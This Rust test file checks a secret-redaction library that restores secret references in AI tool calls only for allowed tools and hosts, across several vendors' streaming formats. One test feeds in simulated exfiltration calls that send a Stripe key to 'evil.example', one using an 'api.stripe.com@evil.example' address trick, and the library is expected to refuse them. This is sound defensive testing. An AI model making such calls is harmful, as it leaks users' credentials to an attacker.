//! References restored in tool calls, over recorded replies of every interface. Numbers are those of the scenarios.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use keepmum::prompt::{Api, PreSend, RestoreReport, RestoreRule, Unrestored};
use keepmum::{Guard, Redactor, RedactorBuilder, ReferenceKey, Secret};
use serde_json::{Value, json};

const PLAIN: &str = "correct horse battery staple";
const LINES: &str = "-----BEGIN TEST TEXT-----\nit says \"quoted\" and C:\\back\\slash\n\tsecond/line of it\n-----END TEST TEXT-----";
const SECRETS: [(&str, &str); 2] = [("stripe-key", PLAIN), ("signing-text", LINES)];

fn key() -> ReferenceKey {
    ReferenceKey::new(b"a key of thirty-two bytes, tests")
}

/// The reference of the secret at `at`.
fn reference(at: usize) -> String {
    key().reference(SECRETS[at].0, SECRETS[at].1.as_bytes()).to_string()
}

fn redactor() -> Redactor {
    static BUILT: OnceLock<Redactor> = OnceLock::new();
    let secret = |builder: RedactorBuilder, (name, value): &(&str, &str)| {
        builder.secret(name, *value).unwrap()
    };
    let build =
        || SECRETS.iter().fold(Redactor::builder().builtin_rules(), secret).build().unwrap();
    BUILT.get_or_init(build).clone()
}

fn rule(toml: &str) -> RestoreRule {
    toml::from_str(toml).unwrap()
}

/// Tools `use_*` get every secret; `http` gets Stripe's, for Stripe.
fn pre_send_holding(bytes: usize) -> PreSend {
    let secrets = SECRETS.iter().map(|(name, value)| Secret::new(name, *value)).collect();
    PreSend::builder(Guard::from(redactor()), key())
        .restorable(secrets)
        .restore(rule("secret = '*'\ntool = '{use_*,local_shell}'"))
        .restore(rule("secret = 'stripe-*'\ntool = 'http'\nhost = '*.stripe.com'"))
        .held(bytes)
        .build()
        .unwrap()
}

fn pre_send() -> PreSend {
    pre_send_holding(1 << 20)
}

fn restored_by(
    pre_send: &PreSend,
    api: Api,
    kind: &str,
    chunks: &[&[u8]],
) -> (Vec<u8>, RestoreReport) {
    let mut reply = pre_send.reply(api, kind).unwrap();
    let mut out = Vec::new();
    chunks.iter().for_each(|chunk| reply.push(chunk, &mut out));
    let report = reply.finish(&mut out);
    (out, report)
}

fn restored(api: Api, kind: &str, body: &[u8]) -> (Vec<u8>, RestoreReport) {
    restored_by(&pre_send(), api, kind, &[body])
}

const SSE: &str = "text/event-stream";
const LINE: &str = "application/x-ndjson";
const JSON: &str = "application/json";
const FRAMES: &str = "application/vnd.amazon.eventstream";

/// Interfaces, how they stream, and whether arguments come in pieces.
const STREAMS: [(Api, &str); 7] = [
    (Api::OpenAiChat, SSE),
    (Api::OpenAiResponses, SSE),
    (Api::Anthropic, SSE),
    (Api::Gemini, SSE),
    (Api::Gemini, JSON),
    (Api::Bedrock, FRAMES),
    (Api::Ollama, LINE),
];

/// A stream in which `tool` is called with arguments in `pieces`, between text.
fn stream(api: Api, kind: &str, tool: &str, pieces: &[&str]) -> Vec<u8> {
    events(kind, &call(api, tool, pieces))
}

fn call(api: Api, tool: &str, pieces: &[&str]) -> Vec<Value> {
    match api {
        Api::OpenAiChat => chat(tool, pieces),
        Api::OpenAiResponses => responses(tool, pieces),
        Api::Anthropic => anthropic(tool, pieces),
        Api::Gemini => gemini(tool, pieces),
        Api::Bedrock => bedrock(tool, pieces),
        _ => ollama(tool, pieces),
    }
}

fn chat(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let chunk = |delta: Value, end: Value| json!({"id": "c1", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta, "finish_reason": end}]});
    let mut all = vec![
        chunk(json!({"role": "assistant", "content": "Säy "}), Value::Null),
        chunk(json!({"content": reference(0)}), Value::Null),
        chunk(
            json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": tool, "arguments": ""}}]}),
            Value::Null,
        ),
    ];
    all.extend(pieces.iter().map(|piece| {
        chunk(json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}), Value::Null)
    }));
    all.push(chunk(json!({}), json!("tool_calls")));
    all.push(json!({"choices": [], "usage": {"total_tokens": 1}}));
    all.push(Value::from("[DONE]"));
    all
}

fn responses(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let whole = pieces.concat();
    let item = |arguments: &str| json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": tool, "arguments": arguments});
    let text = json!({"type": "message", "id": "m", "content": [{"type": "output_text", "text": reference(0)}]});
    let mut all = vec![
        json!({"type": "response.created", "response": {"id": "r", "output": []}}),
        json!({"type": "response.output_text.delta", "output_index": 0, "delta": reference(0)}),
        json!({"type": "response.output_item.done", "output_index": 0, "item": text}),
        json!({"type": "response.output_item.added", "output_index": 1, "item": item("")}),
    ];
    all.extend(pieces.iter().map(|piece| {
        json!({"type": "response.function_call_arguments.delta", "item_id": "fc_1", "output_index": 1, "delta": piece})
    }));
    all.push(json!({"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": 1, "arguments": whole}));
    all.push(json!({"type": "response.output_item.done", "output_index": 1, "item": item(&whole)}));
    all.push(json!({"type": "response.completed", "response": {"id": "r", "output": [text, item(&whole)]}}));
    for (number, event) in all.iter_mut().enumerate() {
        event["sequence_number"] = number.into();
    }
    all
}

fn anthropic(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let mut all = vec![
        json!({"type": "message_start", "message": {"type": "message", "role": "assistant", "content": []}}),
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
        json!({"type": "ping"}),
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": format!("Säy {}", reference(0))}}),
        json!({"type": "content_block_stop", "index": 0}),
        json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "toolu_1", "name": tool, "input": {}}}),
    ];
    all.extend(pieces.iter().map(|piece| {
        json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}})
    }));
    all.push(json!({"type": "content_block_stop", "index": 1}));
    all.push(json!({"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": {}}));
    all.push(json!({"type": "message_stop"}));
    all
}

fn gemini(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let part = |part: Value| json!({"candidates": [{"content": {"role": "model", "parts": [part]}, "index": 0}]});
    let arguments: Value = serde_json::from_str(&pieces.concat()).unwrap_or_default();
    vec![
        part(json!({"text": reference(0)})),
        part(json!({"functionCall": {"name": tool, "args": arguments}})),
        json!({"candidates": [{"content": {}, "finishReason": "STOP", "index": 0}]}),
    ]
}

fn bedrock(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let mut all = vec![
        json!({":event": "messageStart", "role": "assistant"}),
        json!({":event": "contentBlockDelta", "contentBlockIndex": 0, "delta": {"text": reference(0)}}),
        json!({":event": "contentBlockStop", "contentBlockIndex": 0}),
        json!({":event": "contentBlockStart", "contentBlockIndex": 1, "start": {"toolUse": {"toolUseId": "t", "name": tool}}}),
    ];
    all.extend(pieces.iter().map(|piece| {
        json!({":event": "contentBlockDelta", "contentBlockIndex": 1, "delta": {"toolUse": {"input": piece}}})
    }));
    all.push(json!({":event": "contentBlockStop", "contentBlockIndex": 1}));
    all.push(json!({":event": "messageStop", "stopReason": "tool_use"}));
    all
}

fn ollama(tool: &str, pieces: &[&str]) -> Vec<Value> {
    let arguments: Value = serde_json::from_str(&pieces.concat()).unwrap_or_default();
    vec![
        json!({"message": {"role": "assistant", "content": reference(0)}, "done": false}),
        json!({"message": {"tool_calls": [{"function": {"name": tool, "arguments": arguments}}]}, "done": false}),
        json!({"message": {"content": ""}, "done": true, "done_reason": "stop"}),
    ]
}

/// A whole reply with one call.
fn whole(api: Api, tool: &str, arguments: &str) -> Value {
    let object: Value = serde_json::from_str(arguments).unwrap_or_default();
    match api {
        Api::OpenAiChat => {
            json!({"choices": [{"index": 0, "message": {"content": reference(0), "tool_calls": [
            {"id": "call_1", "type": "function", "function": {"name": tool, "arguments": arguments}}]}, "finish_reason": "tool_calls"}]})
        }
        Api::OpenAiResponses => json!({"object": "response", "output": [{"type": "message"},
            {"type": "function_call", "name": tool, "arguments": arguments}]}),
        Api::Anthropic => {
            json!({"type": "message", "content": [{"type": "text", "text": reference(0)},
            {"type": "tool_use", "id": "toolu_1", "name": tool, "input": object}]})
        }
        Api::Gemini => {
            json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": tool, "args": object}}]}}]})
        }
        Api::Bedrock => {
            json!({"output": {"message": {"content": [{"toolUse": {"name": tool, "input": object}}]}}})
        }
        _ => {
            json!({"message": {"tool_calls": [{"function": {"name": tool, "arguments": object}}]}, "done": true})
        }
    }
}

/// Events as bytes of a stream.
fn events(kind: &str, all: &[Value]) -> Vec<u8> {
    match kind {
        SSE => all.iter().flat_map(|event| sse(event).into_bytes()).collect(),
        LINE => all.iter().flat_map(|event| format!("{event}\n").into_bytes()).collect(),
        FRAMES => all.iter().flat_map(frame).collect(),
        _ => {
            let all: Vec<String> = all.iter().map(Value::to_string).collect();
            format!("[{}\n]", all.join("\n, ")).into_bytes()
        }
    }
}

fn sse(event: &Value) -> String {
    match (event.as_str(), event["type"].as_str()) {
        (Some(text), _) => format!("data: {text}\n\n"),
        (None, Some(name)) => format!("event: {name}\ndata: {event}\n\n"),
        (None, None) => format!("data: {event}\n\n"),
    }
}

/// A frame of Amazon's, with three headers.
fn frame(event: &Value) -> Vec<u8> {
    let mut event = event.clone();
    let name = event.as_object_mut().unwrap().remove(":event").unwrap();
    let mut headers = Vec::new();
    for (header, value) in [(":content-type", JSON), (":event-type", name.as_str().unwrap())] {
        headers.push(header.len() as u8);
        headers.extend(header.as_bytes());
        headers.extend([7, 0, value.len() as u8]);
        headers.extend(value.as_bytes());
    }
    headers.extend(b"\x01x\x04\0\0\0\x01");
    let payload = event.to_string();
    let total = (16 + headers.len() + payload.len()) as u32;
    let mut frame = [total.to_be_bytes(), (headers.len() as u32).to_be_bytes()].concat();
    frame.extend(crc32(&frame).to_be_bytes());
    frame.extend(headers);
    frame.extend(payload.as_bytes());
    frame.extend(crc32(&frame).to_be_bytes());
    frame
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |crc, &byte| {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| crc >> 1 ^ (0xedb8_8320 * (crc & 1)))
    })
}

/// What a client reads of a stream.
fn read(kind: &str, bytes: &[u8]) -> Vec<Value> {
    let text = || std::str::from_utf8(bytes).unwrap();
    let json = |text: &str| serde_json::from_str(text).unwrap_or_else(|_| Value::from(text));
    match kind {
        SSE => text()
            .split("\n\n")
            .filter_map(|event| event.lines().find_map(|line| line.strip_prefix("data: ")))
            .map(json)
            .collect(),
        LINE => text().lines().map(json).collect(),
        FRAMES => read_frames(bytes),
        _ => serde_json::from_slice(bytes).unwrap(),
    }
}

fn read_frames(mut bytes: &[u8]) -> Vec<Value> {
    let number = |at: &[u8]| u32::from_be_bytes(at[..4].try_into().unwrap());
    let mut all = Vec::new();
    while !bytes.is_empty() {
        let (total, headers) = (number(bytes) as usize, number(&bytes[4..]) as usize);
        let (frame, rest) = bytes.split_at(total);
        assert_eq!(number(&frame[8..]), crc32(&frame[..8]));
        assert_eq!(number(&frame[total - 4..]), crc32(&frame[..total - 4]));
        all.push(serde_json::from_slice(&frame[12 + headers..total - 4]).unwrap());
        bytes = rest;
    }
    all
}

/// All arguments in a document, joined: strings as they are, objects as JSON.
fn arguments(events: &[Value]) -> String {
    const PLACES: [&str; 8] = [
        "/choices/0/delta/tool_calls/0/function/arguments",
        "/choices/0/message/tool_calls/0/function/arguments",
        "/delta/partial_json",
        "/content/1/input",
        "/candidates/0/content/parts/0/functionCall/args",
        "/delta/toolUse/input",
        "/output/message/content/0/toolUse/input",
        "/message/tool_calls/0/function/arguments",
    ];
    let mut all = String::new();
    for event in events {
        let places = PLACES.iter().filter_map(|place| event.pointer(place));
        let delta = event.get("delta").filter(|delta| delta.is_string());
        let delta = delta.filter(|_| event["type"] != "response.output_text.delta");
        for found in places.chain(delta).chain(event.pointer("/output/1/arguments")) {
            all += &found.as_str().map_or_else(|| found.to_string(), str::to_owned);
        }
    }
    all
}

fn parsed(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|_| panic!("no JSON: {text}"))
}

/// Arguments with both references, and with both values.
fn both() -> (String, Value) {
    let text = |plain: &str, lines: &str| {
        json!({"z": format!("Bearer {plain}!"), "a": [{"é😀": lines}], "n": 1.5}).to_string()
    };
    (text(&reference(0), &reference(1)), parsed(&text(PLAIN, LINES)))
}

/// `text` in pieces of `size` characters.
fn pieces(text: &str, size: usize) -> Vec<String> {
    let all: Vec<char> = text.chars().collect();
    all.chunks(size).map(|piece| piece.iter().collect()).collect()
}

fn strs(pieces: &[String]) -> Vec<&str> {
    pieces.iter().map(String::as_str).collect()
}

#[test]
fn r1_a_stream_cut_at_every_byte_gives_what_a_whole_reply_gives() {
    let (text, expected) = both();
    let pre_send = pre_send();
    for (api, kind) in STREAMS {
        let reply = whole(api, "use_it", &text).to_string();
        let (out, report) = restored(api, JSON, reply.as_bytes());
        assert_eq!(parsed(&arguments(&[serde_json::from_slice(&out).unwrap()])), expected, "{api}");
        let pieces = pieces(&text, 40);
        let input = stream(api, kind, "use_it", &strs(&pieces));
        let (once, streamed) = restored(api, kind, &input);
        assert_eq!(parsed(&arguments(&read(kind, &once))), expected, "{api}");
        assert_eq!(report, streamed);
        assert_eq!(report.restored.values().sum::<u64>(), 2);
        for at in 0..=input.len() {
            let (out, _) = restored_by(&pre_send, api, kind, &[&input[..at], &input[at..]]);
            assert_eq!(out, once, "{api} cut at {at}");
        }
        let bytes: Vec<&[u8]> = input.chunks(1).collect();
        assert_eq!(restored_by(&pre_send, api, kind, &bytes).0, once, "{api} byte by byte");
    }
}

#[test]
fn r1_a_reference_is_split_at_every_position() {
    let (text, expected) = both();
    let starts: Vec<usize> = [0, 1].map(|at| text.find(&reference(at)).unwrap()).into();
    for (api, kind) in STREAMS {
        for (at, start) in starts.iter().enumerate() {
            for split in *start..=start + reference(at).len() {
                let (left, right) = text.split_at(split);
                let (out, _) = restored(api, kind, &stream(api, kind, "use_it", &[left, right]));
                assert_eq!(parsed(&arguments(&read(kind, &out))), expected, "{api} at {split}");
            }
        }
        for size in 1..9 {
            let pieces = pieces(&text, size);
            let (out, _) = restored(api, kind, &stream(api, kind, "use_it", &strs(&pieces)));
            assert_eq!(parsed(&arguments(&read(kind, &out))), expected, "{api} by {size}");
        }
    }
}

/// Free text of a custom tool: the value as it is.
fn custom(pieces: &[&str]) -> Vec<Value> {
    let item =
        |input: &str| json!({"type": "custom_tool_call", "name": "use_patch", "input": input});
    let whole = pieces.concat();
    let mut all =
        vec![json!({"type": "response.output_item.added", "output_index": 0, "item": item("")})];
    all.extend(pieces.iter().map(|piece| {
        json!({"type": "response.custom_tool_call_input.delta", "output_index": 0, "delta": piece})
    }));
    all.push(
        json!({"type": "response.custom_tool_call_input.done", "output_index": 0, "input": whole}),
    );
    all.push(json!({"type": "response.output_item.done", "output_index": 0, "item": item(&whole)}));
    all.push(json!({"type": "response.completed", "response": {"output": [item(&whole)]}}));
    all
}

#[test]
fn r1_free_text_of_a_custom_tool() {
    let text = format!(
        "*** Begin Patch\n+key = \"{}\"\n+`{}`\n",
        reference(1),
        reference(0).replace('_', r"\_")
    );
    let expected = format!("*** Begin Patch\n+key = \"{LINES}\"\n+`{PLAIN}`\n");
    for size in 1..30 {
        let pieces = pieces(&text, size);
        let (out, report) =
            restored(Api::OpenAiResponses, SSE, &events(SSE, &custom(&strs(&pieces))));
        let all = read(SSE, &out);
        let deltas: String = all.iter().filter_map(|event| event["delta"].as_str()).collect();
        assert_eq!(deltas, expected, "by {size}");
        let [.., done, item, completed] = &all[..] else { panic!() };
        assert_eq!(done["input"], *expected);
        assert_eq!(item["item"]["input"], *expected);
        assert_eq!(completed["response"]["output"][0]["input"], *expected);
        assert_eq!(report.restored.values().sum::<u64>(), 2);
    }
}

#[test]
fn r2_cuts_inside_characters_escapes_and_fields() {
    let text = format!(
        "{{\"é\":\"{}\",\"x\":\"\\\\{}\"}}",
        reference(0).replace('_', r"\u005f"),
        reference(1)
    );
    let pieces = pieces(&text, 11);
    let input = String::from_utf8(stream(Api::Anthropic, SSE, "use_it", &strs(&pieces))).unwrap();
    let expected = json!({"é": PLAIN, "x": format!("\\{LINES}")});
    let variants = [
        input.clone(),
        input.replace('\n', "\r\n"),
        input.replace('\n', "\r"),
        input.replace("event: ", ": ping\nid: 7\nevent:"),
        input.replace("\"delta\":", "\ndata: \"delta\":"),
        input.replace("data: ", "data:").replace("\n\n", "\n\n: keep-alive\n\n\n"),
        input
            .lines()
            .filter(|line| !line.starts_with("event"))
            .map(|line| format!("{line}\n"))
            .collect(),
    ];
    let pre_send = pre_send();
    for variant in variants {
        let (once, report) = restored(Api::Anthropic, SSE, variant.as_bytes());
        assert_eq!(report.restored.len(), 2, "{variant}");
        for at in 0..=variant.len() {
            let (left, right) = variant.as_bytes().split_at(at);
            assert_eq!(restored_by(&pre_send, Api::Anthropic, SSE, &[left, right]).0, once);
        }
        let plain = String::from_utf8(once).unwrap().replace("\r\n", "\n").replace('\r', "\n");
        let plain = plain.replace("\ndata: \"delta\":", "\"delta\":").replace("data:{", "data: {");
        assert_eq!(parsed(&arguments(&read(SSE, plain.as_bytes()))), expected);
    }
}

#[test]
fn r3_channels_that_take_turns_do_not_meet() {
    let names = ["use_a", "other", "use_b"];
    let text = [
        both().0,
        json!({"other": reference(0)}).to_string(),
        json!({"b": reference(1)}).to_string(),
    ];
    let chunk = |choice: u64, delta: Value| json!({"choices": [{"index": choice, "delta": delta}]});
    let mut all = Vec::new();
    for choice in [0, 1] {
        for (at, name) in names.iter().enumerate() {
            all.push(chunk(choice, json!({"tool_calls": [{"index": at, "id": format!("c{at}"), "function": {"name": name, "arguments": ""}}]})));
        }
    }
    let parts: Vec<Vec<String>> = text.iter().map(|text| pieces(text, 3)).collect();
    for at in 0..parts[0].len() {
        for choice in [0, 1] {
            all.push(chunk(choice, json!({"content": &reference(0)[..at % 20]})));
            let calls: Vec<Value> = (0..3)
                .filter_map(|call| {
                    Some(json!({"index": call, "function": {"arguments": parts[call].get(at)?}}))
                })
                .collect();
            all.push(chunk(choice, json!({"tool_calls": calls})));
        }
    }
    all.push(json!({"choices": [{"index": 1, "delta": {}, "finish_reason": "tool_calls"}]}));
    all.push(json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}));
    let (out, report) = restored(Api::OpenAiChat, SSE, &events(SSE, &all));
    let read = read(SSE, &out);
    assert_eq!(read.len(), all.len());
    let mut calls: BTreeMap<(u64, u64), String> = BTreeMap::new();
    for (event, before) in read.iter().zip(&all) {
        let choice = &event["choices"][0];
        assert_eq!(choice["delta"]["content"], before["choices"][0]["delta"]["content"]);
        for call in choice["delta"]["tool_calls"].as_array().into_iter().flatten() {
            let key = (choice["index"].as_u64().unwrap(), call["index"].as_u64().unwrap());
            *calls.entry(key).or_default() += call["function"]["arguments"].as_str().unwrap();
        }
    }
    for choice in [0, 1] {
        assert_eq!(parsed(&calls[&(choice, 0)]), both().1);
        assert_eq!(calls[&(choice, 1)], text[1]);
        assert_eq!(parsed(&calls[&(choice, 2)]), json!({"b": LINES}));
    }
    assert_eq!(report.refused, BTreeMap::from([(Unrestored::NotAllowed, 2)]));
}

#[test]
fn r4_a_stream_that_is_cut_is_passed_on_to_its_last_byte() {
    let text = both().0;
    for (api, kind) in STREAMS {
        let input = stream(api, kind, "use_it", &strs(&pieces(&text, 25)));
        for at in 0..input.len() {
            let (out, report) = restored(api, kind, &input[..at]);
            if report.restored.is_empty() {
                assert_eq!(out, &input[..at], "{api} cut at {at}");
            }
        }
    }
    // Cut by a limit of tokens: the block ends, its JSON does not.
    for cut in [text.len() - 1, text.find("_key_").unwrap()] {
        let input = stream(Api::Anthropic, SSE, "use_it", &[&text[..cut]]);
        let (out, report) = restored(Api::Anthropic, SSE, &input);
        assert_eq!(out, input);
        assert!(report.restored.is_empty());
    }
    let whole = whole(Api::Anthropic, "use_it", &text).to_string();
    assert_eq!(
        restored(Api::Anthropic, JSON, &whole.as_bytes()[..200]).0,
        &whole.as_bytes()[..200]
    );
}

#[test]
fn r5_deltas_are_what_their_repetitions_say() {
    let (text, expected) = both();
    for size in [1, 4, 1000] {
        let input = responses("use_it", &strs(&pieces(&text, size)));
        let (out, _) = restored(Api::OpenAiResponses, SSE, &events(SSE, &input));
        let all = read(SSE, &out);
        let numbers: Vec<_> =
            all.iter().map(|event| event["sequence_number"].as_u64().unwrap()).collect();
        assert_eq!(numbers, (0..input.len() as u64).collect::<Vec<_>>());
        let deltas = arguments(&all[..all.len() - 3]);
        assert_eq!(parsed(&deltas), expected);
        let [.., done, item, completed] = &all[..] else { panic!() };
        assert_eq!(done["arguments"], *deltas);
        assert_eq!(item["item"]["arguments"], *deltas);
        assert_eq!(completed["response"]["output"][1]["arguments"], *deltas);
        assert_eq!(
            completed["response"]["output"][0],
            input.last().unwrap()["response"]["output"][0]
        );
    }
    // A repetition that says something else: nothing is restored.
    let mut input = responses("use_it", &[&text]);
    let at = input.len() - 3;
    input[at]["arguments"] = Value::from(text.replace('!', "?"));
    let input = events(SSE, &input);
    let (out, report) = restored(Api::OpenAiResponses, SSE, &input);
    assert_eq!(out, input);
    assert_eq!(report.refused, BTreeMap::from([(Unrestored::Incomplete, 1)]));
}

#[test]
fn r6_lines_and_quotes_are_escaped_as_their_place_needs() {
    let text = json!({"key": reference(1)}).to_string();
    for (api, kind) in STREAMS {
        let (out, _) = restored(api, kind, &stream(api, kind, "use_it", &[&text]));
        assert_eq!(parsed(&arguments(&read(kind, &out)))["key"], LINES, "{api}");
    }
}

#[test]
fn r7_what_is_no_reference_of_a_known_secret_stays() {
    let made = reference(0);
    let foreign =
        ReferenceKey::new(b"another key").reference("stripe-key", PLAIN.as_bytes()).to_string();
    let gone = key().reference("gone", b"battery staple").to_string();
    let mut altered = made.clone().into_bytes();
    *altered.last_mut().unwrap() = if altered.ends_with(b"A") { b'B' } else { b'A' };
    let altered = String::from_utf8(altered).unwrap();
    let cut = made[..made.len() - 1].to_owned();
    for (text, unknown, damaged) in [
        (foreign, 1, 0),
        (gone, 1, 0),
        (altered, 0, 1),
        (cut, 0, 1),
        (made.to_lowercase(), 0, 1),
        (made.replacen("stripe", "STRIPE", 1), 0, 1),
    ] {
        let arguments = json!({"a": text}).to_string();
        for (api, kind) in STREAMS {
            let input = stream(api, kind, "use_it", &strs(&pieces(&arguments, 4)));
            let (out, report) = restored(api, kind, &input);
            assert_eq!(out, input, "{api} {text}");
            assert_eq!((report.unknown, report.damaged), (unknown, damaged), "{api} {text}");
        }
        let arguments = json!({"a": text, "b": made}).to_string();
        let input = stream(Api::Anthropic, SSE, "use_it", &[&arguments]);
        let out = String::from_utf8(restored(Api::Anthropic, SSE, &input).0).unwrap();
        assert!(out.contains(&text) && out.contains(PLAIN), "{text}");
    }
}

#[test]
fn r8_spellings_that_lose_nothing_are_restored() {
    let made = reference(0);
    let text = format!(
        r#"{{"a":"{}","b":"`{made}`","c":"{}"}}"#,
        made.replace('_', r"\\_"),
        made.replace('_', r"\u005F")
    );
    let (out, _) = restored(
        Api::OpenAiChat,
        SSE,
        &stream(Api::OpenAiChat, SSE, "use_it", &strs(&pieces(&text, 2))),
    );
    let expected = json!({"a": PLAIN, "b": format!("`{PLAIN}`"), "c": PLAIN});
    assert_eq!(parsed(&arguments(&read(SSE, &out))), expected);
    for other in [
        made.replace("_stripe_key_", "[stripe_key]"),
        made.replace('_', "-"),
        made.replace('_', r"\\\\_"),
    ] {
        let text = format!(r#"{{"a":"{other}"}}"#);
        let input = stream(Api::OpenAiChat, SSE, "use_it", &[&text]);
        assert_eq!(restored(Api::OpenAiChat, SSE, &input).0, input);
    }
}

/// Not random, but without an order.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % sides as u64) as usize
    }

    /// The source of a document, oddly spelled.
    fn value(&mut self, depth: usize) -> String {
        let space = [" ", "", "", "\n"][self.roll(4)];
        match self.roll(if depth > 3 { 4 } else { 6 }) {
            0 => ["1.0", "1e3", "-0", "true", "null"][self.roll(5)].to_owned(),
            1..4 => self.string(),
            4 => {
                let all: Vec<String> = (0..self.roll(4)).map(|_| self.value(depth + 1)).collect();
                format!("[{space}{}]", all.join(&format!("{space},")))
            }
            _ => self.object(depth),
        }
    }

    fn object(&mut self, depth: usize) -> String {
        let names = ["url", "b", "a", "é", "note"];
        let all: Vec<String> = (0..self.roll(4) + 1)
            .map(|_| format!("\"{}\" : {}", names[self.roll(5)], self.value(depth + 1)))
            .collect();
        format!("{{{}}}", all.join(", "))
    }

    fn string(&mut self) -> String {
        let parts = [
            "x ",
            r"\u0041",
            r"\/",
            r"\n",
            "é",
            "😀",
            r"\ud83d\ude00",
            "'",
            r"\\",
            r#"\""#,
            "_",
            "SECRETREF_",
        ];
        let mut text = String::new();
        for _ in 0..self.roll(5) {
            match self.roll(3) {
                0 => text += &reference(self.roll(2)),
                _ => text += parts[self.roll(parts.len())],
            }
        }
        format!("\"{text}\"")
    }
}

fn escaped(value: &str) -> String {
    let quoted = Value::from(value).to_string();
    quoted[1..quoted.len() - 1].to_owned()
}

/// `KEEPMUM_INPUTS` asks for more.
#[test]
fn r9_redacting_again_gives_what_the_model_wrote() {
    let count = std::env::var("KEEPMUM_INPUTS").ok().and_then(|count| count.parse().ok());
    let (mut dice, pre_send, mut changed) = (Dice(0x5eed), pre_send(), 0);
    for _ in 0..count.unwrap_or(10_000) {
        let source = dice.object(0);
        let body = format!(
            r#"{{"type":"message","content":[{{"type":"tool_use","name":"use_it","input":{source}}}]}}"#
        );
        let (out, report) = restored_by(&pre_send, Api::Anthropic, JSON, &[body.as_bytes()]);
        let out = String::from_utf8(out).unwrap();
        let again =
            out.replace(&escaped(PLAIN), &reference(0)).replace(&escaped(LINES), &reference(1));
        assert_eq!(again, body);
        assert_eq!(out != body, !report.restored.is_empty());
        serde_json::from_str::<Value>(&out).unwrap();
        changed += usize::from(out != body);
    }
    assert!(changed > count.unwrap_or(10_000) / 4, "{changed} were restored");
}

#[test]
fn r9_what_would_be_redacted_otherwise_is_not_restored() {
    // A value behind another one's beginning, or beside another secret, is found as one.
    for text in [
        json!({"a": format!("{}{}", reference(0), reference(1))}),
        json!({"a": format!("{} {PLAIN}", reference(0))}),
    ] {
        let input = stream(Api::Anthropic, SSE, "use_it", &[&text.to_string()]);
        let (out, report) = restored(Api::Anthropic, SSE, &input);
        assert_eq!(out, input, "{text}");
        assert_eq!(report.refused, BTreeMap::from([(Unrestored::NotInverse, 1)]));
    }
}

#[test]
fn r10_signed_reasoning_stays_and_asks_for_exact_spelling() {
    let think = [
        json!({"type": "content_block_start", "index": 9, "content_block": {"type": "thinking", "thinking": "", "signature": ""}}),
        json!({"type": "content_block_delta", "index": 9, "delta": {"type": "thinking_delta", "thinking": reference(0)}}),
        json!({"type": "content_block_delta", "index": 9, "delta": {"type": "signature_delta", "signature": reference(0)}}),
        json!({"type": "content_block_stop", "index": 9}),
    ];
    let exact = json!({"a": reference(0)}).to_string();
    let spelled = exact.replace("F_", r"F\u005f");
    for (text, is_restored) in [(&exact, true), (&spelled, false)] {
        let mut all = anthropic("use_it", &[text]);
        all.splice(1..1, think.clone());
        let input = events(SSE, &all);
        let (out, report) = restored(Api::Anthropic, SSE, &input);
        assert_eq!(read(SSE, &out)[1..5], think);
        assert_eq!(out != input, is_restored);
        assert_eq!(report.refused.contains_key(&Unrestored::Signed), !is_restored);
    }
    let signed = |arguments: &str| {
        let call = json!({"functionCall": {"name": "use_it", "args": "ARGS"}, "thoughtSignature": reference(0)});
        let body = json!({"candidates": [{"content": {"parts": [{"text": reference(0), "thought": true}, call]}}]});
        body.to_string().replace("\"ARGS\"", arguments)
    };
    for kind in [SSE, JSON] {
        let body = |text: &str| {
            if kind == SSE { format!("data: {}\n\n", signed(text)) } else { signed(text) }
        };
        let (out, _) = restored(Api::Gemini, kind, body(&exact).as_bytes());
        assert_eq!(out, body(&exact.replace(&reference(0), PLAIN)).into_bytes());
        let (out, _) = restored(Api::Gemini, kind, body(&spelled).as_bytes());
        assert_eq!(out, body(&spelled).into_bytes());
    }
    let mut all = responses("use_it", &[&spelled]);
    all.insert(1, json!({"type": "response.output_item.done", "item": {"type": "reasoning", "encrypted_content": reference(0)}}));
    let input = events(SSE, &all);
    assert_eq!(restored(Api::OpenAiResponses, SSE, &input).0, input);
}

#[test]
fn r11_only_tools_and_hosts_of_rules_get_values() {
    let refused = |why| BTreeMap::from([(why, 1)]);
    let stripe = "https://api.stripe.com/v1";
    for (tool, url, secret, expected) in [
        ("use_it", "https://evil.example/", 1, None),
        ("http", stripe, 0, None),
        ("http", stripe, 1, Some(Unrestored::NotAllowed)),
        ("http", "https://evil.example/", 0, Some(Unrestored::Address)),
        ("http", "https://api.stripe.com@evil.example/", 0, Some(Unrestored::Address)),
        ("http", "http://api.stripe.com/", 0, Some(Unrestored::Address)),
        ("bash", stripe, 0, Some(Unrestored::NotAllowed)),
        ("Http", stripe, 0, Some(Unrestored::NotAllowed)),
        ("mcp__write", stripe, 0, Some(Unrestored::NotAllowed)),
    ] {
        // The address comes behind the reference.
        let text = format!(r#"{{"header":"{}","url":"{url}"}}"#, reference(secret));
        for (api, kind) in STREAMS {
            let input = stream(api, kind, tool, &strs(&pieces(&text, 6)));
            let (out, report) = restored(api, kind, &input);
            assert_eq!(out == input, expected.is_some(), "{api} {tool} {url}");
            assert_eq!(
                report.refused,
                expected.map(refused).unwrap_or_default(),
                "{api} {tool} {url}"
            );
        }
    }
    let twice =
